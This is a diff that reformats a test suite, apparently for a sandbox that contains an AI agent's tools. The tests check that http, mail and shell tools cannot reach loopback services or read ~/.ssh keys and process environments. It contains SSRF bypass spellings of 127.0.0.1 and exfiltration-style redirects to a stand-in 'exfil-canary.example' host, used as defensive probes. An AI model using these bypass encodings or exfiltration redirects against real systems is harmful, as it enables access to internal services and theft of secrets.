@@ -90,12 +90,18 @@ async function smtpSink(): Promise<Listener & { subjects: string[] }> {
 }
 
 function ran(r: TurnResult): string {
-  expect(r.verdicts.every((v) => v === "ALLOW" || v === "ESCALATE"), `verdicts ${r.verdicts.join(",")}`).toBe(true);
+  expect(
+    r.verdicts.every((v) => v === "ALLOW" || v === "ESCALATE"),
+    `verdicts ${r.verdicts.join(",")}`,
+  ).toBe(true);
   expect(r.executed, "the capability executed the call").toBeGreaterThan(0);
   return r.results.join("\n");
 }
 
-const get = (url: string): { name: string; arguments: Record<string, unknown> } => ({ name: "http__http_request", arguments: { method: "GET", url } });
+const get = (url: string): { name: string; arguments: Record<string, unknown> } => ({
+  name: "http__http_request",
+  arguments: { method: "GET", url },
+});
 const mail = (subject: string): { name: string; arguments: Record<string, unknown> } => ({
   name: "mail__send_email",
   arguments: { to: "alice@example.com", subject, body: `body of ${subject}` },
@@ -105,7 +111,7 @@ const mail = (subject: string): { name: string; arguments: Record<string, unknow
 function capabilityPid(entry: string): number {
   const ancestors = (pid: number): number[] => {
     const out: number[] = [];
-    for (let p = pid; p > 1; ) {
+    for (let p = pid; p > 1;) {
       const stat = readFileSync(`/proc/${p}/stat`, "utf8");
       p = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
       out.push(p);
@@ -133,7 +139,8 @@ function seen(pid: number, path: string): { entries?: string[]; text?: string; e
   try {
     return { entries: readdirSync(at) };
   } catch (err) {
-    if ((err as NodeJS.ErrnoException).code !== "ENOTDIR") return { error: (err as NodeJS.ErrnoException).code ?? String(err) };
+    if ((err as NodeJS.ErrnoException).code !== "ENOTDIR")
+      return { error: (err as NodeJS.ErrnoException).code ?? String(err) };
   }
   try {
     return { text: readFileSync(at, "utf8") };
@@ -142,148 +149,171 @@ function seen(pid: number, path: string): { entries?: string[]; text?: string; e
   }
 }
 
-describe.skipIf(!probe.available)("http and mail, Shield off and their own guards off: only the proxy lets anything out", () => {
-  let h: Containment;
-  let listener: Listener;
-  let sink: Awaited<ReturnType<typeof smtpSink>>;
+describe.skipIf(!probe.available)(
+  "http and mail, Shield off and their own guards off: only the proxy lets anything out",
+  () => {
+    let h: Containment;
+    let listener: Listener;
+    let sink: Awaited<ReturnType<typeof smtpSink>>;
 
-  beforeAll(async () => {
-    [listener, sink] = await Promise.all([httpListener(), smtpSink()]);
-    h = await startContainment({
-      policy: "shield-off",
-      groups: ["http", "mail"],
-      capabilities: [
-        // The manifests' own network policy (any public host), so the Shield has no host rule to
-        // apply either: the proxy's refusal of private addresses is all there is.
-        "  - { id: http, config: { network: { mode: any, allow_private: true } } }",
-        "  - { id: documents, enabled: false }",
-        `  - { id: mail, credentials: { SMTP_HOST: localhost, SMTP_PORT: "${sink.port}", SMTP_FROM: bot@palisade.test } }`,
-      ],
+    beforeAll(async () => {
+      [listener, sink] = await Promise.all([httpListener(), smtpSink()]);
+      h = await startContainment({
+        policy: "shield-off",
+        groups: ["http", "mail"],
+        capabilities: [
+          // The manifests' own network policy (any public host), so the Shield has no host rule to
+          // apply either: the proxy's refusal of private addresses is all there is.
+          "  - { id: http, config: { network: { mode: any, allow_private: true } } }",
+          "  - { id: documents, enabled: false }",
+          `  - { id: mail, credentials: { SMTP_HOST: localhost, SMTP_PORT: "${sink.port}", SMTP_FROM: bot@palisade.test } }`,
+        ],
+      });
+    }, 90_000);
+    afterAll(async () => {
+      await h?.close();
+      await listener?.close();
+      await sink?.close();
     });
-  }, 90_000);
-  afterAll(async () => {
-    await h?.close();
-    await listener?.close();
-    await sink?.close();
-  });
 
-  it("http and mail run in bubblewrap with network only through the proxy (engine status says so)", async () => {
-    const status = await h.client.getStatus({});
-    const http = status.capabilities.find((c) => c.id === "http");
-    const mailCap = status.capabilities.find((c) => c.id === "mail");
-    // Nothing called them yet: they start on their first call, in the sandbox described here.
-    expect(http?.state).toBe("stopped");
-    expect(mailCap?.state).toBe("stopped");
-    expect(http?.sandbox).toMatch(/^bubblewrap: system read-only, its code read-only, home empty and private, private \/tmp and \/run, no host socket, own pid namespace, network via proxy \(public hosts\)/);
-    expect(mailCap?.sandbox).toMatch(/^bubblewrap: system read-only, its code read-only, home empty and private, private \/tmp and \/run, no host socket, own pid namespace, network via proxy \(public hosts\)/);
-  });
-
-  it("http: a loopback listener is never reached, by address or by a name that resolves to it", async () => {
-    const p = listener.port;
-    const out = ran(
-      await h.turn([get(`http://127.0.0.1:${p}/literal`), get(`http://localhost:${p}/by-name`), get(`https://localhost:${p}/tls`), get(`http://[::1]:${p}/v6`)]),
-    );
-    expect(out).not.toContain("LISTENER-REACHED");
-    expect(listener.hits).toEqual([]);
-    expect(out).toMatch(/refused by the sandbox's egress proxy/);
-    // The name was resolved by the proxy, and the address it resolved to refused.
-    expect(h.logs.some((l) => /egress refused for http: GET localhost:\d+: refused localhost: .*loopback/.test(l))).toBe(true);
-  });
-
-  it("mail: an SMTP host on loopback is never connected to; the tool fails cleanly and the Engine lives", async () => {
-    const out = ran(await h.turn([mail("exfil through smtp")]));
-    expect(out).toMatch(/sending the email through .* failed: the sandbox's egress proxy refused the connection/);
-    expect(sink.hits).toEqual([]);
-    expect(h.logs.some((l) => /egress refused for mail: CONNECT localhost:\d+: refused localhost: .*loopback/.test(l))).toBe(true);
-    expect((await h.client.getStatus({})).capabilities.find((c) => c.id === "mail")?.state).toBe("ready");
-  });
-
-  it.each([
-    ["http", "@palisade/capability-http"],
-    ["mail", "@palisade/capability-mail"],
-  ])("%s: the data directory, ~/.ssh, ~/.aws and the Engine's processes are not there", async (_id, pkg) => {
-    const { command } = (await import(pkg)) as { command: readonly string[] };
-    const pid = capabilityPid(command[1] ?? "");
-    // Another root: the process has its own mount namespace.
-    expect(readlinkSync(`/proc/${pid}/ns/mnt`)).not.toBe(readlinkSync("/proc/self/ns/mnt"));
-    // Not in its view at all; the home is an empty directory of its own.
-    expect(seen(pid, h.dataDir)).toEqual({ error: "ENOENT" });
-    expect(seen(pid, h.home)).toEqual({ entries: [] });
-    expect(seen(pid, join(h.home, ".ssh"))).toEqual({ error: "ENOENT" });
-    expect(seen(pid, join(h.home, ".aws"))).toEqual({ error: "ENOENT" });
-    expect(seen(pid, join(h.home, ".ssh", "id_ed25519")).text ?? "").not.toContain(CANARY.ssh);
-    // Its /proc is its own pid namespace's: the Engine (this process) is not in it.
-    expect(seen(pid, `/proc/${process.pid}/environ`).text ?? "").not.toContain(CANARY.env);
-    const procs = (seen(pid, "/proc").entries ?? []).filter((e) => /^\d+$/.test(e)).map(Number);
-    expect(procs.length).toBeGreaterThan(0);
-    expect(Math.max(...procs)).toBeLessThan(100);
-  });
-});
-
-describe.skipIf(!probe.available)("http and mail with an explicit loopback allowance (sandbox.allow_addresses): only allowlisted ports", () => {
-  let h: Containment;
-  let good: Listener;
-  let other: Listener;
-  let sink: Awaited<ReturnType<typeof smtpSink>>;
-
-  beforeAll(async () => {
-    [good, other, sink] = await Promise.all([httpListener(), httpListener(), smtpSink()]);
-    h = await startContainment({
-      policy: "shield-off",
-      groups: ["http", "mail"],
-      capabilities: [
-        `  - { id: http, networkMode: allowlist, allowHosts: ["127.0.0.1:${good.port}"], config: { network: { mode: any, allow_private: true } } }`,
-        "  - { id: documents, enabled: false }",
-        `  - { id: mail, networkMode: allowlist, allowHosts: ["127.0.0.1:${sink.port}"], credentials: { SMTP_HOST: 127.0.0.1, SMTP_PORT: "${sink.port}", SMTP_FROM: bot@palisade.test } }`,
-      ],
-      // The testing allowance: without it (the default) nothing on loopback is ever dialed.
-      extraConfig: ["sandbox:", "  allow_addresses: [127.0.0.1]"],
+    it("http and mail run in bubblewrap with network only through the proxy (engine status says so)", async () => {
+      const status = await h.client.getStatus({});
+      const http = status.capabilities.find((c) => c.id === "http");
+      const mailCap = status.capabilities.find((c) => c.id === "mail");
+      // Nothing called them yet: they start on their first call, in the sandbox described here.
+      expect(http?.state).toBe("stopped");
+      expect(mailCap?.state).toBe("stopped");
+      expect(http?.sandbox).toMatch(
+        /^bubblewrap: system read-only, its code read-only, home empty and private, private \/tmp and \/run, no host socket, own pid namespace, network via proxy \(public hosts\)/,
+      );
+      expect(mailCap?.sandbox).toMatch(
+        /^bubblewrap: system read-only, its code read-only, home empty and private, private \/tmp and \/run, no host socket, own pid namespace, network via proxy \(public hosts\)/,
+      );
     });
-  }, 90_000);
-  afterAll(async () => {
-    await h?.close();
-    await Promise.all([good?.close(), other?.close(), sink?.close()]);
-  });
 
-  it("http reaches the allowlisted listener through the proxy", async () => {
-    const out = ran(await h.turn([get(`http://127.0.0.1:${good.port}/through-proxy`)]));
-    expect(out).toContain("LISTENER-REACHED");
-    expect(good.hits).toEqual(["GET /through-proxy"]);
-  });
+    it("http: a loopback listener is never reached, by address or by a name that resolves to it", async () => {
+      const p = listener.port;
+      const out = ran(
+        await h.turn([
+          get(`http://127.0.0.1:${p}/literal`),
+          get(`http://localhost:${p}/by-name`),
+          get(`https://localhost:${p}/tls`),
+          get(`http://[::1]:${p}/v6`),
+        ]),
+      );
+      expect(out).not.toContain("LISTENER-REACHED");
+      expect(listener.hits).toEqual([]);
+      expect(out).toMatch(/refused by the sandbox's egress proxy/);
+      // The name was resolved by the proxy, and the address it resolved to refused.
+      expect(
+        h.logs.some((l) => /egress refused for http: GET localhost:\d+: refused localhost: .*loopback/.test(l)),
+      ).toBe(true);
+    });
 
-  // A URL outside the allowlist is stopped by the Shield's network rule; a redirect from an
-  // allowed host is not (the Shield sees the first URL only): the proxy must stop it.
-  it("a redirect to another port on the same address is never followed through", async () => {
-    good.hits.length = 0;
-    const to = encodeURIComponent(`http://127.0.0.1:${other.port}/via-redirect`);
-    const out = ran(await h.turn([get(`http://127.0.0.1:${good.port}/redirect?to=${to}`)]));
-    expect(out).toMatch(/refused by the sandbox's egress proxy/);
-    expect(good.hits).toHaveLength(1);
-    expect(other.hits).toEqual([]);
-  });
+    it("mail: an SMTP host on loopback is never connected to; the tool fails cleanly and the Engine lives", async () => {
+      const out = ran(await h.turn([mail("exfil through smtp")]));
+      expect(out).toMatch(/sending the email through .* failed: the sandbox's egress proxy refused the connection/);
+      expect(sink.hits).toEqual([]);
+      expect(
+        h.logs.some((l) => /egress refused for mail: CONNECT localhost:\d+: refused localhost: .*loopback/.test(l)),
+      ).toBe(true);
+      expect((await h.client.getStatus({})).capabilities.find((c) => c.id === "mail")?.state).toBe("ready");
+    });
 
-  it("a redirect to a name outside the allowlist is refused before the name is resolved", async () => {
-    const out = ran(
-      await h.turn([
-        get(`http://127.0.0.1:${good.port}/redirect?to=${encodeURIComponent("http://exfil-canary.example/leak?k=1")}`),
-        get(`http://127.0.0.1:${good.port}/redirect?to=${encodeURIComponent("https://exfil-canary.example/leak")}`),
-      ]),
-    );
-    expect(out).toMatch(/refused by the sandbox's egress proxy/);
-    const refused = h.logs.filter((l) => l.includes("exfil-canary.example"));
-    expect(refused).toHaveLength(2);
-    for (const line of refused) {
-      expect(line).toMatch(/egress refused for http: (GET|CONNECT) exfil-canary\.example:(80|443): .*not in this capability's network allowlist/);
-      expect(line).not.toMatch(/could not resolve/);
-    }
-  });
+    it.each([
+      ["http", "@palisade/capability-http"],
+      ["mail", "@palisade/capability-mail"],
+    ])("%s: the data directory, ~/.ssh, ~/.aws and the Engine's processes are not there", async (_id, pkg) => {
+      const { command } = (await import(pkg)) as { command: readonly string[] };
+      const pid = capabilityPid(command[1] ?? "");
+      // Another root: the process has its own mount namespace.
+      expect(readlinkSync(`/proc/${pid}/ns/mnt`)).not.toBe(readlinkSync("/proc/self/ns/mnt"));
+      // Not in its view at all; the home is an empty directory of its own.
+      expect(seen(pid, h.dataDir)).toEqual({ error: "ENOENT" });
+      expect(seen(pid, h.home)).toEqual({ entries: [] });
+      expect(seen(pid, join(h.home, ".ssh"))).toEqual({ error: "ENOENT" });
+      expect(seen(pid, join(h.home, ".aws"))).toEqual({ error: "ENOENT" });
+      expect(seen(pid, join(h.home, ".ssh", "id_ed25519")).text ?? "").not.toContain(CANARY.ssh);
+      // Its /proc is its own pid namespace's: the Engine (this process) is not in it.
+      expect(seen(pid, `/proc/${process.pid}/environ`).text ?? "").not.toContain(CANARY.env);
+      const procs = (seen(pid, "/proc").entries ?? []).filter((e) => /^\d+$/.test(e)).map(Number);
+      expect(procs.length).toBeGreaterThan(0);
+      expect(Math.max(...procs)).toBeLessThan(100);
+    });
+  },
+);
 
-  it("mail delivers through the proxy to the allowlisted SMTP server", async () => {
-    const out = ran(await h.turn([mail("hello through the tunnel")]));
-    expect(out).toContain('"ok":true');
-    expect(sink.subjects).toEqual(["hello through the tunnel"]);
-  });
-});
+describe.skipIf(!probe.available)(
+  "http and mail with an explicit loopback allowance (sandbox.allow_addresses): only allowlisted ports",
+  () => {
+    let h: Containment;
+    let good: Listener;
+    let other: Listener;
+    let sink: Awaited<ReturnType<typeof smtpSink>>;
+
+    beforeAll(async () => {
+      [good, other, sink] = await Promise.all([httpListener(), httpListener(), smtpSink()]);
+      h = await startContainment({
+        policy: "shield-off",
+        groups: ["http", "mail"],
+        capabilities: [
+          `  - { id: http, networkMode: allowlist, allowHosts: ["127.0.0.1:${good.port}"], config: { network: { mode: any, allow_private: true } } }`,
+          "  - { id: documents, enabled: false }",
+          `  - { id: mail, networkMode: allowlist, allowHosts: ["127.0.0.1:${sink.port}"], credentials: { SMTP_HOST: 127.0.0.1, SMTP_PORT: "${sink.port}", SMTP_FROM: bot@palisade.test } }`,
+        ],
+        // The testing allowance: without it (the default) nothing on loopback is ever dialed.
+        extraConfig: ["sandbox:", "  allow_addresses: [127.0.0.1]"],
+      });
+    }, 90_000);
+    afterAll(async () => {
+      await h?.close();
+      await Promise.all([good?.close(), other?.close(), sink?.close()]);
+    });
+
+    it("http reaches the allowlisted listener through the proxy", async () => {
+      const out = ran(await h.turn([get(`http://127.0.0.1:${good.port}/through-proxy`)]));
+      expect(out).toContain("LISTENER-REACHED");
+      expect(good.hits).toEqual(["GET /through-proxy"]);
+    });
+
+    // A URL outside the allowlist is stopped by the Shield's network rule; a redirect from an
+    // allowed host is not (the Shield sees the first URL only): the proxy must stop it.
+    it("a redirect to another port on the same address is never followed through", async () => {
+      good.hits.length = 0;
+      const to = encodeURIComponent(`http://127.0.0.1:${other.port}/via-redirect`);
+      const out = ran(await h.turn([get(`http://127.0.0.1:${good.port}/redirect?to=${to}`)]));
+      expect(out).toMatch(/refused by the sandbox's egress proxy/);
+      expect(good.hits).toHaveLength(1);
+      expect(other.hits).toEqual([]);
+    });
+
+    it("a redirect to a name outside the allowlist is refused before the name is resolved", async () => {
+      const out = ran(
+        await h.turn([
+          get(
+            `http://127.0.0.1:${good.port}/redirect?to=${encodeURIComponent("http://exfil-canary.example/leak?k=1")}`,
+          ),
+          get(`http://127.0.0.1:${good.port}/redirect?to=${encodeURIComponent("https://exfil-canary.example/leak")}`),
+        ]),
+      );
+      expect(out).toMatch(/refused by the sandbox's egress proxy/);
+      const refused = h.logs.filter((l) => l.includes("exfil-canary.example"));
+      expect(refused).toHaveLength(2);
+      for (const line of refused) {
+        expect(line).toMatch(
+          /egress refused for http: (GET|CONNECT) exfil-canary\.example:(80|443): .*not in this capability's network allowlist/,
+        );
+        expect(line).not.toMatch(/could not resolve/);
+      }
+    });
+
+    it("mail delivers through the proxy to the allowlisted SMTP server", async () => {
+      const out = ran(await h.turn([mail("hello through the tunnel")]));
+      expect(out).toContain('"ok":true');
+      expect(sink.subjects).toEqual(["hello through the tunnel"]);
+    });
+  },
+);
 
 describe.skipIf(!probe.available)("mail pinned to one SMTP server (networkMode: allowlist)", () => {
   let h: Containment;
@@ -340,53 +370,60 @@ for authority in sys.argv[1:]:
     print("PROBE", authority, data.split(b"\\r\\n")[0].decode(errors="replace")[:60], "REACHED" if b"LISTENER-REACHED" in data else "not-reached")
 `;
 
-describe.skipIf(!probe.available)("shell with network: any: every spelling of this host's loopback is refused by the proxy", () => {
-  let h: Containment;
-  let listener: Listener;
+describe.skipIf(!probe.available)(
+  "shell with network: any: every spelling of this host's loopback is refused by the proxy",
+  () => {
+    let h: Containment;
+    let listener: Listener;
 
-  beforeAll(async () => {
-    listener = await httpListener();
-    h = await startContainment({
-      policy: "shield-off",
-      capabilities: ["  - { id: shell, networkMode: any }", ...["http", "documents", "mail"].map((id) => `  - { id: ${id}, enabled: false }`)],
+    beforeAll(async () => {
+      listener = await httpListener();
+      h = await startContainment({
+        policy: "shield-off",
+        capabilities: [
+          "  - { id: shell, networkMode: any }",
+          ...["http", "documents", "mail"].map((id) => `  - { id: ${id}, enabled: false }`),
+        ],
+      });
+      writeFileSync(join(h.workspace, "connect_probe.py"), CONNECT_PROBE);
+    }, 90_000);
+    afterAll(async () => {
+      await h?.close();
+      await listener?.close();
     });
-    writeFileSync(join(h.workspace, "connect_probe.py"), CONNECT_PROBE);
-  }, 90_000);
-  afterAll(async () => {
-    await h?.close();
-    await listener?.close();
-  });
 
-  it("CONNECT [0::ffff:127.0.0.1]:PORT and the other spellings never reach a loopback listener", async () => {
-    const p = listener.port;
-    const spellings = [
-      "[0::ffff:127.0.0.1]",
-      "[::ffff:7f00:1]",
-      "[0:0:0:0:0:ffff:127.0.0.1]",
-      "[0000:0000:0000:0000:0000:ffff:7f00:0001]",
-      "[::ffff:0:127.0.0.1]",
-      "[::127.0.0.1]",
-      "[64:ff9b::7f00:1]",
-      "2130706433",
-      "0177.0.0.1",
-      "0x7f.1",
-      "127.1",
-      "127.0.0.1.",
-      "localhost.",
-    ];
-    const out = ran(await h.sh(`python3 connect_probe.py ${spellings.map((s) => `'${s}:${p}'`).join(" ")}`));
-    const lines = out.split("\n").filter((l) => l.startsWith("PROBE "));
-    expect(lines, out).toHaveLength(spellings.length);
-    for (const line of lines) expect(line).toMatch(/ HTTP\/1\.1 403 .* not-reached$/);
-    expect(listener.hits).toEqual([]);
-  });
+    it("CONNECT [0::ffff:127.0.0.1]:PORT and the other spellings never reach a loopback listener", async () => {
+      const p = listener.port;
+      const spellings = [
+        "[0::ffff:127.0.0.1]",
+        "[::ffff:7f00:1]",
+        "[0:0:0:0:0:ffff:127.0.0.1]",
+        "[0000:0000:0000:0000:0000:ffff:7f00:0001]",
+        "[::ffff:0:127.0.0.1]",
+        "[::127.0.0.1]",
+        "[64:ff9b::7f00:1]",
+        "2130706433",
+        "0177.0.0.1",
+        "0x7f.1",
+        "127.1",
+        "127.0.0.1.",
+        "localhost.",
+      ];
+      const out = ran(await h.sh(`python3 connect_probe.py ${spellings.map((s) => `'${s}:${p}'`).join(" ")}`));
+      const lines = out.split("\n").filter((l) => l.startsWith("PROBE "));
+      expect(lines, out).toHaveLength(spellings.length);
+      for (const line of lines) expect(line).toMatch(/ HTTP\/1\.1 403 .* not-reached$/);
+      expect(listener.hits).toEqual([]);
+    });
 
-  it("a target that does not parse (a zone id, an IPv4 out of range) is refused with 400 and never dialed", async () => {
-    const out = ran(await h.sh(`python3 connect_probe.py '[fe80::1%25lo]:${listener.port}' '999.1.1.1:${listener.port}'`));
-    const lines = out.split("\n").filter((l) => l.startsWith("PROBE "));
-    expect(lines).toHaveLength(2);
-    for (const line of lines) expect(line).toMatch(/ HTTP\/1\.1 400 .* not-reached$/);
-    expect(listener.hits).toEqual([]);
-  });
-});
-
+    it("a target that does not parse (a zone id, an IPv4 out of range) is refused with 400 and never dialed", async () => {
+      const out = ran(
+        await h.sh(`python3 connect_probe.py '[fe80::1%25lo]:${listener.port}' '999.1.1.1:${listener.port}'`),
+      );
+      const lines = out.split("\n").filter((l) => l.startsWith("PROBE "));
+      expect(lines).toHaveLength(2);
+      for (const line of lines) expect(line).toMatch(/ HTTP\/1\.1 400 .* not-reached$/);
+      expect(listener.hits).toEqual([]);
+    });
+  },
+);
